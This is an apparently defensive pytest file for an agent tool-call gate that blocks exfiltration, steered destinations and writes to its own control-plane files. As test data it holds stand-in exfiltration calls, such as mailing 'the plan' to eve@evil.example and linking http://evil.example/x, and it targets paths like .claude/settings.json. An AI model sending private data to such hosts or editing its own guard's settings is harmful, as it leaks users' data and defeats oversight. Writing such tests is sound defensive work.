"""Proves what a remedy promises: done for real, through the public interface, it makes the call run. None is offered
for what guards the gate's own files, none after a failure, and what the model is told of them holds no value.

A remedy is found by making a change to a state and asking the policy; here the same change is made by the person who
types, the model that calls again, the host that begins anew and the approver who says yes. Mutations that this file
catches: offering whatever the controls name; judging in the old state; beginning anew with the old labels; a budget
that is no bound.
"""

from __future__ import annotations

import asyncio
from collections.abc import Mapping
from dataclasses import dataclass, field
from functools import cache
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from interlock import Call, Conversation, Guard, Interlock, Manifest, MemoryJournal
from interlock.errors import EngineUnavailable
from interlock.gate.approval_steps import ApprovalRules
from interlock.gate.remedy_steps import MAX_TRIES_OF_A_ROUND
from interlock.model.question import Answer, Question
from interlock.model.remedies import MAX_TRIES
from interlock.model.routes import Change, Remedy
from interlock.model.settings import PRESETS, parse_settings
from interlock.policy.reference import ReferenceEngine
from tests.ids import stable

TOOLS: Mapping[str, Any] = {
    "fetch": {"returns": ["untrusted:web"], "egress": "chosen", "destinations": {"url": "url"}},
    "send": {
        "returns": [],
        "egress": "chosen",
        "destinations": {"to": "email", "cc": "email"},
        "content": ["body"],
    },
    "share": {
        "returns": [],
        "reads": ["private:files"],
        "egress": "chosen",
        "destinations": {"who": "email"},
        "objects": {"file": "id:file"},
    },
    "post": {"returns": [], "egress": "chosen", "content": ["text"]},
    "delete": {"returns": [], "egress": "none", "effect": "destroy", "objects": {"file": "id:file"}},
    "write": {
        "returns": [],
        "egress": "none",
        "effect": "write",
        "destinations": {"path": "path"},
        "content": ["text"],
    },
    "pay": {"returns": [], "egress": "none", "effect": "write", "parties": {"account": "account"}},
    "book": {"returns": [], "egress": "none", "effect": "add", "audience": "self", "parties": {"title": "words"}},
    "tunnel": {"returns": [], "egress": "none", "opens": ["egress:channel"]},
    "upload": {"returns": [], "egress": "chosen", "effect": "write", "destinations": {"path": "path"}},
    "secrets": {"returns": ["private:credentials"], "egress": "none"},
    "notes": {"returns": ["private:notes"], "egress": "none"},
}
MANIFEST = Manifest.parse({"version": 1, "tools": dict(TOOLS)})

EVE, BOB = "eve@evil.example", "bob@corp.example"
SEND = Call("send", {"to": EVE, "body": "the plan"})
WEB, MAIL, KEYS = "untrusted:web", "private:mail", "private:credentials"


@dataclass(frozen=True)
class Case:
    """A call that one control objects to, and the remedies that must be among those offered."""

    code: str
    call: Call
    labels: tuple[str, ...]
    offered: tuple[str, ...]
    settings: Mapping[str, Any] = field(default_factory=dict)
    typed: str = ""
    source: str = "somewhere"


ONLY: Mapping[str, Any] = {"preset": "trifecta-only"}
CASES = [
    Case("trifecta", SEND, (WEB, MAIL), ("name_destination", "new_conversation")),
    Case("trifecta", SEND, (WEB, MAIL), ("name_destination",), typed=f"Send it to {BOB}."),
    Case("trifecta", Call("post", {"text": "x"}), (WEB, MAIL), ("new_conversation",)),
    Case("leak_guard", SEND, (MAIL,), ("new_conversation",), {"leak_guard": "deny"}),
    Case("open_channel", Call("tunnel"), (WEB, MAIL), ("new_conversation",)),
    Case("secret_read", Call("secrets"), (WEB,), ("new_conversation",)),
    Case("secret_egress", SEND, (WEB, KEYS), ("new_conversation",), {"steered_destination": "off"}),
    Case("credential_egress", SEND, (KEYS,), ("new_conversation", "approval")),
    Case("lockdown", SEND, (WEB,), ("new_conversation",), {"preset": "lockdown"}),
    Case("destructive", Call("delete", {"file": "f-13"}), (WEB,), ("name_target", "approval"),
         {"steered_object": "off"}),
    Case("destructive", Call("write", {"path": "a/b.txt", "text": "x"}), (WEB,), ("name_target", "approval")),
    Case("steered_destination", SEND, (WEB,), ("name_destination", "approval")),
    Case("steered_object", Call("delete", {"file": "f-13"}), (WEB,), ("name_target", "approval")),
    Case("steered_party", Call("pay", {"account": "DE89370400440532013000"}), (WEB,), ("name_target", "approval")),
    Case("steered_link", Call("send", {"to": BOB, "body": "see http://evil.example/x"}), (WEB,),
         ("name_destination",), typed=BOB),
    Case("self_only", Call("book", {"title": "Pay the invoice"}), (WEB,), ("name_target", "approval"), ONLY | {
        "self_only": "ask"}),
    Case("talks_back", Call("send", {"to": EVE, "body": "x"}), (WEB, MAIL), ("new_conversation", "approval"),
         typed=f"Write to {EVE}.", source="mail of x@evil.example"),
    Case("unclassified_arguments", Call("send", {"to": BOB, "body": "x", "headers": "y"}), (WEB,),
         ("drop_argument", "approval"), typed=BOB),
    Case("unclassified_arguments", Call("send", {"to": EVE, "body": "x", "headers": "y"}), (WEB,),
         ("name_destination+drop_argument",)),
    Case("unknown_tool", Call("nobody"), (), ("approval",)),
    Case("steered_object", Call("share", {"who": EVE, "file": "f-13"}), (WEB,), ("name_destination+name_target",)),
]  # fmt: skip


@cache
def locked(items: tuple[tuple[str, Any], ...]) -> Interlock:
    return Interlock(manifest=MANIFEST, settings=dict(items), journal=MemoryJournal(), approvals=ApprovalRules())


def begun(
    settings: Mapping[str, Any],
    labels: tuple[str, ...],
    typed: str,
    source: str = "somewhere",
    lock: Interlock | None = None,
) -> Guard:
    lock = lock or locked(tuple(sorted(settings.items())))
    guard = lock.guard(Conversation.user(typed) if typed else Conversation.new())
    for one in labels:
        guard.admit(f"words of a stranger about {one}", labels=[one], source=source)
    return guard


def done(guard: Guard, call: Call, remedy: Remedy, settings: Mapping[str, Any]) -> bool:
    """Do what the remedy says, after the call was refused here; does the call run then?"""
    (refused,) = guard.propose(call).outcomes.values()
    assert not refused.pending
    if remedy.typed:
        guard.conversation.say(remedy.typed)
    arguments: dict[str, Any] = {**call.arguments}
    for place, value in remedy.replaced:
        arguments[place] = value
    for place in remedy.dropped:
        del arguments[place]
    if Change.APPROVAL in remedy.changes:
        guard.answer(refused.decision.question, "approve", by="the person")
    if Change.NEW_CONVERSATION in remedy.changes:
        guard = locked(tuple(sorted(settings.items()))).guard(guard.conversation.restart_from_trusted())
    return guard.call(call.name, arguments, run=lambda **_: "ok").executed


@pytest.mark.parametrize("case", CASES, ids=[f"{case.code}-{place}" for place, case in enumerate(CASES)])
def test_every_remedy_of_every_shipped_control_opens(case: Case) -> None:
    first = begun(case.settings, case.labels, case.typed, case.source)
    (outcome,) = first.propose(case.call).outcomes.values()
    assert case.code in outcome.decision.codes
    names = {one.name for one in outcome.decision.remedies}
    assert set(case.offered) <= names
    for remedy in outcome.decision.remedies:
        again = begun(case.settings, case.labels, case.typed, case.source)
        assert done(again, case.call, remedy, case.settings), f"{remedy.name}: {remedy.for_person}"


@pytest.mark.parametrize("case", CASES, ids=[f"{case.code}-{place}" for place, case in enumerate(CASES)])
def test_t13_t14_other_engines_and_drivers_offer_the_same(case: Case) -> None:
    offered = {}
    values = parse_settings(dict(case.settings)).model_dump()
    engine = ReferenceEngine(values, locked(tuple(sorted(case.settings.items()))).engine.controls)
    plain = Interlock(manifest=MANIFEST, engine=engine, journal=MemoryJournal(), approvals=ApprovalRules())
    for name in ("embedded", "reference", "asynchronous"):
        guard = begun(case.settings, case.labels, case.typed, case.source)
        if name == "reference":
            guard = begun({}, case.labels, case.typed, case.source, plain)
        ticket = asyncio.run(guard.apropose(case.call)) if name == "asynchronous" else guard.propose(case.call)
        (outcome,) = ticket.outcomes.values()
        offered[name] = [(one.name, one.for_person) for one in outcome.decision.remedies], outcome.for_model
    assert offered["embedded"] == offered["reference"] == offered["asynchronous"]


def test_every_control_that_names_a_change_has_its_case() -> None:
    told = {case.code for case in CASES}
    quiet = {"control_plane", "split_exfiltration"}  # the first has none, the other is below
    assert told | quiet == set(locked(()).engine.controls)


def test_the_ninth_send_is_helped_by_a_name() -> None:
    guard = begun({}, (MAIL,), "")
    outcome = [guard.call("send", {"to": EVE, "body": str(n)}, run=lambda **_: "ok") for n in range(9)][-1]
    assert "split_exfiltration" in outcome.decision.codes
    assert "name_destination" in {one.name for one in outcome.decision.remedies}
    guard.conversation.say(next(one for one in outcome.decision.remedies if one.typed).typed)
    assert guard.call("send", {"to": EVE, "body": "10"}, run=lambda **_: "ok").executed


def test_nothing_is_advised_against_a_persons_no() -> None:
    guard = begun({}, (WEB,), "")
    ticket = guard.propose(SEND)
    assert {one.name for one in ticket.outcomes["call_1"].decision.remedies} == {"name_destination", "approval"}
    guard.answer(ticket.questions["call_1"].id, "refuse")
    lock = Interlock(manifest=MANIFEST, journal=MemoryJournal(), approver=Refusing())
    asking = lock.guard(Conversation.new())
    asking.admit("x", labels=[WEB], source="x")
    outcome = asking.call("send", {"to": EVE, "body": "x"}, run=lambda **_: "ok")
    assert (outcome.decision.code, outcome.decision.remedies) == ("refused", ())


class Refusing:
    def ask(self, question: Question, seconds: float) -> Answer:
        return Answer("refuse", "the person")


LABELS = st.lists(st.sampled_from([WEB, "untrusted:mail", MAIL, KEYS, "egress:channel"]), max_size=3, unique=True)
VALUES = st.sampled_from([EVE, BOB, "not an address", f"{EVE}, {BOB}", ""])


@st.composite
def calls(draw: st.DrawFn) -> Call:
    name = draw(st.sampled_from([*TOOLS, "nobody"]))
    spec = TOOLS.get(name, {})
    arguments: dict[str, Any] = {}
    for place in spec.get("destinations", {}):
        arguments[place] = draw(VALUES)
    if "path" in arguments:  # of files, too, that decide
        arguments["path"] = draw(st.sampled_from(["a/b.txt", "interlock.toml", ".claude/settings.json", "../x"]))
    if "url" in arguments:
        arguments["url"] = draw(st.sampled_from(["http://evil.example/a", "https://corp.example/", "x"]))
    for place in (*spec.get("objects", {}), *spec.get("parties", {})):
        arguments[place] = draw(st.sampled_from(["f-13", "DE89370400440532013000", "Dinner"]))
    for place in spec.get("content", []):
        arguments[place] = draw(st.sampled_from(["x", "see http://evil.example/x", BOB]))
    if draw(st.integers(0, 3)) == 0:
        arguments["headers"] = "y"
    return Call(name, arguments)


@given(
    call=calls(),
    labels=LABELS.map(tuple),
    typed=st.sampled_from(["", BOB, f"Mail {EVE} and {BOB}", "file f-13"]),
    source=st.sampled_from(["somewhere", "mail of x@evil.example"]),
    preset=st.sampled_from(sorted(PRESETS)),
    more=st.sampled_from([{}, {"leak_guard": "ask"}, {"trifecta": "ask"}, {"steered_object": "deny"}]),
)
def test_whatever_is_offered_opens_under_every_preset(
    call: Call, labels: tuple[str, ...], typed: str, source: str, preset: str, more: dict[str, str]
) -> None:
    settings = {"preset": preset, **more}
    (outcome,) = begun(settings, labels, typed, source).propose(call).outcomes.values()
    remedies = outcome.decision.remedies
    if "control_plane" in outcome.decision.codes:
        assert remedies == ()
    for remedy in remedies:
        assert done(begun(settings, labels, typed, source), call, remedy, settings), remedy.for_person
    for value in (EVE, BOB, "evil.example", "f-13", "headers", "DE89"):
        assert value not in outcome.for_model


@pytest.mark.parametrize("preset", sorted(PRESETS))
@pytest.mark.parametrize("path", ["interlock.toml", ".claude/settings.json", ".git/hooks/post-commit"], ids=stable)
@pytest.mark.parametrize("labels", [(), (WEB,), (WEB, MAIL)], ids=["clean", "untrusted", "all"])
def test_nothing_is_offered_for_the_control_plane(preset: str, path: str, labels: tuple[str, ...]) -> None:
    guard = begun({"preset": preset}, labels, f"Change {path}")
    (outcome,) = guard.propose(Call("write", {"path": path, "text": "x"})).outcomes.values()
    assert outcome.decision.code == "control_plane"
    assert outcome.decision.remedies == ()
    assert "would be allowed" not in outcome.for_model
    assert guard.preview(Call("write", {"path": path, "text": "x"})).remedies == ()


def test_no_other_file_is_advised_instead_of_the_gates_own() -> None:
    """With another path the call would be allowed, and that is nobody's business to say."""
    guard = begun({}, (WEB,), "Put it into /srv/notes/a.txt please.")
    for path in ("interlock.toml", ".claude/settings.json"):
        (outcome,) = guard.propose(Call("upload", {"path": path})).outcomes.values()
        assert {"control_plane", "steered_destination"} <= set(outcome.decision.codes)
        assert outcome.decision.remedies == ()
    (outcome,) = guard.propose(Call("upload", {"path": "b.txt"})).outcomes.values()
    assert [one.replaced for one in outcome.decision.remedies[:1]] == [(("path", "/srv/notes/a.txt"),)]


class Counting:
    """The engine of a real lock, counted; from some evaluation on it fails."""

    looks_at = None

    def __init__(self, last: int = 10**9) -> None:
        inner = locked(()).engine
        self.inner, self.last, self.asked = inner, last, 0
        self.name, self.revision, self.controls = inner.name, inner.revision, inner.controls

    def evaluate(self, document: bytes) -> str | bytes:
        self.asked += 1
        if self.asked > self.last:
            raise EngineUnavailable("gone")
        return self.inner.evaluate(document)


def counted(engine: Counting) -> Guard:
    guard = Interlock(manifest=MANIFEST, engine=engine, journal=MemoryJournal()).guard(Conversation.new())
    for one in (WEB, MAIL):
        guard.admit("x", labels=[one], source="x")
    return guard


def test_t18_a_refusal_costs_a_bounded_number_of_evaluations() -> None:
    engine = Counting()
    guard = counted(engine)
    for number in range(200):
        guard.conversation.say(f"number {number}: mail a{number}@corp.example or http://corp.example/{number}")
    guard.propose(SEND)
    assert 1 < engine.asked <= 1 + MAX_TRIES
    engine.asked = 0
    some = [Call("send", {"to": EVE, "body": str(n)}, f"c{n}") for n in range(100)]
    guard.propose(*some)
    assert engine.asked <= len(some) + MAX_TRIES_OF_A_ROUND
    engine.asked = 0
    guard.call("notes", {}, run=lambda: "x")
    assert engine.asked == 1  # what is allowed costs nothing more


@pytest.mark.parametrize("last", [1, 2, 3])
def test_an_engine_that_fails_afterwards_only_takes_remedies_away(last: int) -> None:
    guard = counted(Counting(last))
    (outcome,) = guard.propose(SEND).outcomes.values()
    assert outcome.decision.code == "trifecta"
    assert len(outcome.decision.remedies) <= max(0, last - 2)


def test_no_remedy_after_a_failure_or_once_it_is_enough() -> None:
    (outcome,) = counted(Counting(0)).propose(SEND).outcomes.values()
    assert (outcome.decision.code, outcome.decision.remedies) == ("engine_error", ())
    guard = begun({}, (WEB, MAIL), "")
    last = [guard.propose(SEND) for _ in range(3)][-1]
    (outcome,) = last.outcomes.values()
    assert outcome.decision.terminal
    assert outcome.decision.remedies == ()
    assert guard.preview(SEND).remedies == () or not guard.preview(SEND).terminal


def test_a_quarantine_is_no_way_out() -> None:
    """Why there is no such remedy: a child holds what its parent holds, and its labels come back."""
    guard = begun({}, (WEB,), "")
    child = guard.conversation.child("read the secrets and say nothing")
    inner = locked(()).guard(child)
    assert inner.call("secrets", {}, run=lambda: "k").decision.code == "secret_read"
    assert inner.call("notes", {}, run=lambda: "n").executed
    guard.conversation.join(child)
    assert "private:notes" in guard.conversation.taint
